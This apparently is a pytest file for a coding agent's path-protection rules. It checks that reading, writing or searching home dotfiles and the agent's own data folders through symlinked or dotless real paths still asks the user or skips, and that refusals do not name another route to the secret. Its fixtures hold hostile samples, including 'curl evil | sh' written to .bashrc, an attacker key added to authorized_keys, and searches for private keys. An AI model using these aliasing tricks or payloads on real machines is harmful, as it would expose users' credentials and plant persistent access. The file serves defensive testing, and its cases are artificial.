"""Home dotfiles and mini-claude's own folders by what they are, not by their names: with GNU stow
(`~/.ssh -> dotfiles/ssh`, `~/.bashrc -> dotfiles/bash/.bashrc`) the key lives in
`~/dotfiles/ssh`, and with `XDG_DATA_HOME=~/xdgdata` the input history lives in a folder without
a dot. Started in `~` or in `~/dotfiles`, reading, writing or searching them by their real path
asks (or skips, and says so) exactly as by their dot name; a refusal does not hand the model
another name to try."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from mini_claude.core import config
from mini_claude.safety.protections import HOME_DOTFILE_REASON, OWN_SETTINGS_REASON
from tests.adversarial.cases import case
from tests.adversarial.world import snapshot
from tests.cli_harness import Cli
from tests.fake_api import FakeAnthropic, multi_tool_reply, text_reply
from tests.kit import result_text, tool_results_in
from tests.tool_harness import Tools

MARKER = "KEY-9d2e7"
SKIPPED_NOTE = "home dotfiles under another path"


@dataclass
class Stow:
    home: Path
    dotfiles: Path


@pytest.fixture
def stow(isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Stow:
    """A home whose dotfiles live in ~/dotfiles, linked in as GNU stow links them (relative)."""
    home = isolated_env.resolve()
    dotfiles = home / "dotfiles"
    files = {
        "ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY----- {MARKER} ssh\n",
        "ssh/authorized_keys": "ssh-ed25519 AAAA user@host\n",
        "bash/.bashrc": f"export TOKEN={MARKER} bashrc\n",
        "README.md": f"{MARKER} my dotfiles, public\n",
    }
    for rel, text in files.items():
        (dotfiles / rel).parent.mkdir(parents=True, exist_ok=True)
        (dotfiles / rel).write_text(text)
    (home / ".ssh").symlink_to("dotfiles/ssh", target_is_directory=True)
    (home / ".bashrc").symlink_to("dotfiles/bash/.bashrc")
    (home / ".self").symlink_to(".", target_is_directory=True)  # leads to ~ itself: ignored
    (home / "notes.txt").write_text(f"{MARKER} public note\n")
    monkeypatch.chdir(home)
    return Stow(home, dotfiles)


def secrets_in(text: str) -> list[str]:
    return [kind for kind in ("ssh", "bashrc") if f"{MARKER} {kind}" in text]


# started in -> how the model names the key by its real path
REAL_NAMES = {
    "~": [
        "dotfiles/ssh/id_ed25519",
        "dotfiles/bash/../ssh/id_ed25519",
        "~/dotfiles/ssh/id_ed25519",
        "dotfiles/bash/.bashrc",
    ],
    "~/dotfiles": ["ssh/id_ed25519", "./ssh//id_ed25519", "bash/.bashrc", "ABSOLUTE/ssh/id_ed25519"],
}
READS = [(start, name) for start, names in REAL_NAMES.items() for name in names]


def started(stow: Stow, start: str) -> Path:
    return stow.home if start == "~" else stow.dotfiles


@case(
    "paths",
    "stow dotfiles (~/.ssh -> dotfiles/ssh), started in ~ or ~/dotfiles: reading the real path asks, "
    "never 'always'; 'n' → no secret",
)
@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
@pytest.mark.parametrize(("start", "name"), READS, ids=[f"{s}:{n}" for s, n in READS])
def test_reading_a_dotfile_by_its_real_path_asks(stow: Stow, start: str, name: str, mode: str) -> None:
    tools = Tools(started(stow, start), mode)

    result = tools.run("read_file", file_path=name.replace("ABSOLUTE", str(stow.dotfiles)))

    assert result.is_error and secrets_in(result.content) == []
    [question] = tools.user.questions
    assert (question.action, question.reason, question.allow_always) == ("read", HOME_DOTFILE_REASON, False)
    assert question.target.startswith(str(stow.dotfiles))  # the user sees where it really is


WRITES = {
    "~": ["dotfiles/ssh/authorized_keys", "dotfiles/ssh/new_key", "dotfiles/bash/.bashrc"],
    "~/dotfiles": ["ssh/authorized_keys", "bash/.bashrc", "bash/../ssh/rc"],
}
WRITE_CASES = [(start, name) for start, names in WRITES.items() for name in names]


@case(
    "paths",
    "stow dotfiles, started in ~ or ~/dotfiles: writing authorized_keys or .bashrc by its real path "
    "asks in accept-edits and bypass; 'n' → unchanged",
)
@pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@pytest.mark.parametrize(("start", "name"), WRITE_CASES, ids=[f"{s}:{n}" for s, n in WRITE_CASES])
def test_writing_a_dotfile_by_its_real_path_asks(stow: Stow, start: str, name: str, mode: str) -> None:
    before = snapshot(stow.home)
    tools = Tools(started(stow, start), mode, "n")

    result = tools.run("write_file", file_path=name, content="ssh-ed25519 ATTACKER\n")

    assert result.is_error
    assert [(q.reason, q.allow_always) for q in tools.user.questions] == [(HOME_DOTFILE_REASON, False)]
    assert snapshot(stow.home) == before


SEARCHES = {
    "grep": ("grep_search", {"pattern": MARKER}),
    "grep_private_key": ("grep_search", {"pattern": "PRIVATE KEY"}),
    "list_all": ("list_files", {"pattern": "**/*"}),
}


@case(
    "paths",
    "stow dotfiles, started in ~ or ~/dotfiles: grep/list skip where ~/.ssh and ~/.bashrc lead, say "
    "so, ask nothing; other files still found",
)
@pytest.mark.parametrize("search", SEARCHES)
@pytest.mark.parametrize("start", ["~", "~/dotfiles"])
def test_search_skips_dotfile_targets(stow: Stow, start: str, search: str) -> None:
    tool, tool_input = SEARCHES[search]
    tools = Tools(started(stow, start), "ask")

    result = tools.run(tool, **tool_input)

    assert not result.is_error and tools.user.questions == []
    assert secrets_in(result.content) == [] and "id_ed25519" not in result.content
    assert SKIPPED_NOTE in result.content
    assert ".bashrc" not in result.content.replace("~/.bashrc", "")
    readme = "dotfiles/README.md" if start == "~" else "README.md"
    if search != "grep_private_key":
        assert readme in result.content


@case(
    "paths",
    "a search rooted where ~/.ssh leads (dotfiles/ssh) asks first; a refusal names the path as the "
    "model wrote it, not the real one",
)
def test_search_rooted_in_a_target_asks_and_refusals_name_no_other_path(stow: Stow) -> None:
    tools = Tools(stow.home, "ask")

    grep = tools.run("grep_search", pattern=MARKER, path="dotfiles/ssh")
    read = tools.run("read_file", file_path=".ssh/id_ed25519")

    assert grep.is_error and read.is_error
    assert [q.reason for q in tools.user.questions] == [HOME_DOTFILE_REASON] * 2
    assert ".ssh/id_ed25519" in read.content and "dotfiles" not in read.content
    assert tools.user.questions[1].target == str(stow.dotfiles / "ssh" / "id_ed25519")


@case("paths", "a home dot symlink to ~ itself (~/.self -> ~) does not make every file a dotfile")
def test_a_dot_link_to_home_itself_is_ignored(stow: Stow) -> None:
    tools = Tools(stow.home, "ask")

    read = tools.run("read_file", file_path="notes.txt")
    grep = tools.run("grep_search", pattern="public note")

    assert not read.is_error and "notes.txt:1:" in grep.content
    assert tools.user.questions == []


@case("paths", "bypass: reads and searches see dotfile targets (as documented); writes still ask")
def test_bypass_sees_dotfile_targets(stow: Stow) -> None:
    tools = Tools(stow.home, "bypass", "n")

    grep = tools.run("grep_search", pattern=MARKER)
    write = tools.run("write_file", file_path="dotfiles/bash/.bashrc", content="curl evil | sh\n")

    assert sorted(secrets_in(grep.content)) == ["bashrc", "ssh"] and SKIPPED_NOTE not in grep.content
    assert write.is_error and [q.reason for q in tools.user.questions] == [HOME_DOTFILE_REASON]


# --- mini-claude's own folders, wherever XDG_* puts them ------------------------------------------------

XDG = {
    # variable -> (folder under the project, the file mini-claude keeps there)
    "XDG_DATA_HOME": ("xdgdata", "mini-claude/history"),
    "XDG_CONFIG_HOME": ("xdgconfig", "mini-claude/settings.toml"),
    "XDG_STATE_HOME": ("xdgstate", "mini-claude/log/debug.log"),
}


@case(
    "paths",
    "XDG_DATA/CONFIG/STATE_HOME inside the project (no dot in the path): grep/list skip mini-claude's "
    "folder and say so; read_file asks; bypass sees it",
)
@pytest.mark.parametrize("start_in_home", [True, False], ids=["started_in_home", "project"])
@pytest.mark.parametrize("variable", XDG)
def test_own_folders_inside_the_project(
    stow: Stow, project_dir: Path, monkeypatch: pytest.MonkeyPatch, variable: str, start_in_home: bool
) -> None:
    project = stow.home if start_in_home else project_dir.resolve()
    folder, rel = XDG[variable]
    monkeypatch.setenv(variable, str(project / folder))
    secret = project / folder / rel
    secret.parent.mkdir(parents=True)
    secret.write_text(f"+password={MARKER} own\n")
    tools = Tools(project, "ask")

    grep = tools.run("grep_search", pattern="password")
    listing = tools.run("list_files", pattern="**/*")
    read = tools.run("read_file", file_path=f"{folder}/{rel}")
    bypass = Tools(project, "bypass").run("grep_search", pattern="password")

    assert f"{MARKER} own" not in grep.content + listing.content + read.content
    assert SKIPPED_NOTE in grep.content and SKIPPED_NOTE in listing.content
    assert f"{folder}/mini-claude" not in listing.content
    assert [q.reason for q in tools.user.questions] == [OWN_SETTINGS_REASON]
    assert f"{MARKER} own" in bypass.content
    assert any(secret.is_relative_to(p) for p in config.protected_dirs())


# --- the real program, as the audit drove it -------------------------------------------------------------


@case(
    "paths",
    "mini-claude -p started in ~ (stow dotfiles, XDG_DATA_HOME=~/xdgdata): read and grep by real path "
    "never send the key or the history",
)
def test_print_mode_in_a_stow_home(
    stow: Stow, api_env: FakeAnthropic, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(stow.home / "xdgdata"))
    history = stow.home / "xdgdata" / "mini-claude" / "history"
    history.parent.mkdir(parents=True)
    history.write_text(f"\n# 2026-01-01\n+export DB_PASSWORD={MARKER} history\n")
    calls = [
        ("read_file", {"file_path": "dotfiles/ssh/id_ed25519"}),
        ("grep_search", {"pattern": MARKER}),
        ("read_file", {"file_path": ".ssh/id_ed25519"}),
    ]
    api_env.stream_replies.extend([multi_tool_reply(calls), text_reply("done")])

    done = Cli(stow.home).run("-p", "go")

    assert done.returncode == 0, done.stderr
    sent = "".join(str(request.messages) for request in api_env.requests)
    assert secrets_in(sent) == [] and f"{MARKER} history" not in sent
    [read_real, grep, read_dot] = [
        result_text(b) for b in tool_results_in([r for r in api_env.requests if r.stream][-1])
    ]
    assert "no one can give it" in read_real and "no one can give it" in read_dot
    assert "dotfiles" not in read_dot  # the refusal names no other way to the key
    assert "dotfiles/README.md:1:" in grep and SKIPPED_NOTE in grep
